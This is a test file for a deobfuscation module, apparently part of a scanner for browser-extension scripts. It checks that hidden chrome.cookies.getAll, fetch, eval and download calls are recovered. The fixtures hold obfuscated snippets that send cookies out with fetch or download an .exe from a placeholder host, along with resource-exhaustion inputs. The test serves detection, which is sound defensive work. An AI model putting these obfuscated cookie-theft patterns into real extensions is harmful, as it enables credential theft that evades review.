import { beforeAll, describe, expect, it } from 'vitest';
import { loadScriptParts } from '../../../testing/loadScriptParts.ts';
import { parseScript } from '../parse.ts';
import { calledPaths, callsOf, constant, placeAt, propertyOf } from '../query.ts';

const called = (text: string): string[] => [...calledPaths(parseScript(text))];

beforeAll(loadScriptParts);

describe('unmask', () => {
  it('turns a table of texts until its check is right, then reads it', () => {
    const text = `
      function list() { const texts = ['7days', 'send', 'cookies', '3x', 'getAll']; list = function () { return texts; }; return list(); }
      function read(at) { at = at - 0x10; return list()[at]; }
      (function (source, goal) {
        const texts = source();
        while (!![]) { try { const sum = parseInt(read(0x13)) + parseInt(read(0x11)); if (sum === goal) break; else texts['push'](texts['shift']()); } catch (fault) { texts['push'](texts['shift']()); } }
      }(list, 0xa));
      chrome[read(0x10)][read(0x11 + 1)]({}, answer);
    `;
    expect(called(text)).toContain('chrome.cookies.getAll');
    // Without the turning the names are others.
    expect(called(text.replace('0xa)', '0xb)'))).not.toContain('chrome.cookies.getAll');
  });

  it.each([
    "const t = ['cookies', 'getAll'].reverse(); chrome[t[1]][t[0]]({}, f);",
    "const t = { a: ['coo', 'kies'], b: ['get', 'All'] }; const j = (k) => t[k].join(''); chrome[j('a')][j('b')]({}, f);",
    "const m = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < 'n' ? 13 : -13))); chrome[m('pbbxvrf')][m('trgNyy')]({}, f);",
    "const m = (h) => h.match(/../g).map((x) => String.fromCharCode(parseInt(x, 16))).join(''); chrome[m('636f6f6b696573')].getAll({}, f);",
    "const m = (s) => s.split(/[_-]/).join(''); chrome[m('coo_kies')][m('get-All')]({}, f);",
    "const m = (s) => s.replace(/(.)(.)/g, (_, a, b) => b + a); chrome[m('ockoeis')][m('egAtll')]({}, f);",
  ])('reads the name of a part of the browser that is worked out: %s', (text) => {
    expect(called(text)).toContain('chrome.cookies.getAll');
  });

  it('an expression that a long text would keep busy is not run', () => {
    const text =
      "const m = (s) => s.replace(/(a+)+$/, 'b'); chrome[m('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')](f);";
    expect(called(text)).toEqual([]);
  });

  it('reads names made of numbers, of encoded text and turned round', () => {
    expect(
      called(
        'function d(a) { return a.map((n) => String.fromCharCode(n - 3)).join(""); } chrome[d([102,114,114,110,108,104,118])][d([106,104,119,68,111,111])]({}, f);',
      ),
    ).toContain('chrome.cookies.getAll');
    expect(called('self[atob("Y2hyb21l")][atob("Y29va2llcw==")][atob("Z2V0QWxs")]({}, f)')).toContain(
      'chrome.cookies.getAll',
    );
    expect(
      called('const r = (s) => s.split("").reverse().join(""); chrome[r("seikooc")][r("llAteg")]({}, f)'),
    ).toContain('chrome.cookies.getAll');
    expect(
      called(
        'function x(t, k) { let o = ""; for (let i = 0; i < t.length; i++) o += String.fromCharCode(t.charCodeAt(i) ^ k); return o; } window[x("dw`m", 1)](1); window[x("dw`m", 1)](2);',
      ),
    ).toContain('eval');
  });

  it('takes Reflect.get and tables of wrappers for what they do', () => {
    expect(called('Reflect.get(Reflect.get(globalThis, "chrome"), "cookies").getAll({}, f)')).toContain(
      'chrome.cookies.getAll',
    );
    const text =
      'const t = { "abc": function (f, a, b) { return f(a, b); }, "def": "getAll" }; const d = (s) => atob(s); t[d("YWJj")](fetch, "https://a.example/", o); chrome.cookies[t[d("ZGVm")]]({}, g);';
    expect(called(text)).toEqual(expect.arrayContaining(['fetch', 'chrome.cookies.getAll']));
  });

  it('puts objects together that were taken apart', () => {
    const text =
      'function d(s) { return atob(s); } var _0x12a3 = {}; _0x12a3[d("dXJs")] = "https://a.example/x.exe", _0x12a3[d("YQ==")] = ![]; chrome[d("ZG93bmxvYWRz")].download(_0x12a3, f);';
    const script = parseScript(text);
    const [call] = callsOf(script, 'chrome.downloads.download');
    expect(constant(script, propertyOf(script, call?.args[0] ?? 0, 'url'))).toBe('https://a.example/x.exe');
  });

  it('reads code that stands in texts and packed scripts, at the place of the call', () => {
    expect(called('eval("chrome.cookies.getAll({}, (all) => fetch(target, all));")')).toEqual(
      expect.arrayContaining(['eval', 'chrome.cookies.getAll', 'fetch']),
    );
    expect(called('new Function(atob("Y2hyb21lLmNvb2tpZXMuZ2V0QWxsKHt9LCBmKQ=="))()')).toContain(
      'chrome.cookies.getAll',
    );
    const packed = `eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('x','g'),k[c])}}return p}('0.1.2({},3)',10,4,'chrome|cookies|getAll|send'.split('|'),0,{}))`;
    expect(called(packed)).toContain('chrome.cookies.getAll');
    expect(called('eval("not ( code ==");')).toEqual(['eval']);
    const script = parseScript('f();\n  eval("chrome.cookies.getAll({}, g); h();");');
    expect(placeAt(script, 'a.js', callsOf(script, 'chrome.cookies.getAll')[0]?.pos ?? 0)).toMatchObject({
      line: 2,
      column: 3,
    });
  });

  it('keeps places, and texts handed to requests', () => {
    const script = parseScript(
      'function d(a) { return a.map((n) => String.fromCharCode(n - 1)).join(""); }\nfetch(d([105, 117, 117, 113]));\nfetch(d([98, 99]));',
    );
    const calls = callsOf(script, 'fetch');
    expect(calls.map((call) => constant(script, call.args[0] ?? 0))).toEqual(['http', 'ab']);
    expect(placeAt(script, 'a.js', calls[0]?.pos ?? 0)).toMatchObject({ line: 2, column: 1 });
  });

  it('leaves alone what depends on the page, on time or on what is not told', () => {
    const text =
      'function d(a) { return String.fromCharCode(a + offset); } let offset = Date.now(); chrome[d(1)][d(2)](f); chrome[d(3)](g);';
    expect(called(text).filter((path) => path.startsWith('chrome.'))).toEqual([]);
    expect(
      called(
        'let key = 3; key = location.hash.length; const d = (n) => String.fromCharCode(n ^ key); chrome[d(1)](); chrome[d(2)]();',
      ).filter((path) => path.startsWith('chrome.')),
    ).toEqual([]);
  });

  it('ends on loops without end, calls without end and growth without end', () => {
    const bodies = [
      'while (true) { a++; }',
      'return d(a);',
      'let s = "ab"; for (;;) s += s;',
      'const l = []; for (;;) l.push(a);',
      'return "x".repeat(1e9);',
      // Each of these once took gigabytes or minutes: few steps, but of ever more data.
      'let l = [1]; for (;;) l = l.concat(l);',
      'let l = [1]; for (;;) l = [...l, ...l];',
      'let l = ["ab"]; for (let i = 0; i < 60; i++) l = [l, l]; return l + "";',
      'const l = []; for (;;) l.push(Array(200000));',
      'const l = Array(199999); for (;;) l.reverse();',
      'const s = "a".repeat(199999); return s.replaceAll("a", s);',
      'let s = "ab"; for (;;) s = `${s}${s}`;',
    ];
    for (const body of bodies) {
      const script = parseScript(
        `function d(a) { String.fromCharCode(1); ${body} } chrome[d(1)](); chrome[d(2)](); eval(d(3));`,
      );
      expect(callsOf(script, 'eval')).toHaveLength(1);
    }
  });

  it('does not unpack what would fill the memory', () => {
    const packed = `eval(function (p, a, c, k, e, d) { return p; }('${'0 '.repeat(100_000)}', 36, 1, ['x'.repeat(100000)], 0, {}));`;
    expect(callsOf(parseScript(`${packed} f(1);`), 'f')).toHaveLength(1);
    const many = Array.from({ length: 150 }, (_, n) => `eval('${`g(${n});`.repeat(30_000)}');`)
      .join('\n')
      .slice(0, 7_000_000);
    expect(callsOf(parseScript(`${many.slice(0, many.lastIndexOf('\n'))}\nf(1);`), 'f')).toHaveLength(1);
  });
});
